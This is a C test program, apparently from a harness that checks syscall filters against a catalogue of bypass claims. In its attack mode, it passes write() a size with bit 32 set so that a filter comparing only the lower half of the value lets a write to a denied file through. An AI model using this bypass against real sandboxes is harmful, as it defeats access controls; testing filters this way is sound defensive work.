// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a filter compares all 64 bits of a value as one number
 * (catalogue C8).
 *
 *	write(fd, text, 4096)		denied: arg[2] >= 4096
 *	write(fd, text, 1 << 32 | 8)	more still, but the lower half is small
 *
 * The kernel writes as much as there is memory behind `text`: one page. The
 * twin writes little. A win changes the content of the denied file.
 */
#include "attack.h"

#define MUCH 4096ul
/* Low, for most kernels refuse a range that reaches over the end of user memory (access_ok). */
#define PLACE ((void *)0x100000000)

static void write_to(struct run *run, const char *name, size_t size)
{
	char *text = mmap(PLACE, MUCH, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int fd = raw_open(name, O_WRONLY);

	if (text == MAP_FAILED || fd < 0)
		broken("%s: %s", name, strerror(errno));
	memset(text, 'x', MUCH);
	run->attempts = 1;
	run_result(run, syscall(SYS_write, JUNK(fd), text, size));
	close(fd);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		write_to(&run, run.allowed, strlen(run.nonce));
		break;
	case MODE_DIRECT:
		write_to(&run, run.denied, MUCH);
		break;
	case MODE_ATTACK:
		write_to(&run, run.denied, (size_t)(UINT64_C(1) << 32 | 8));
		break;
	}
	run_end(&run);
}
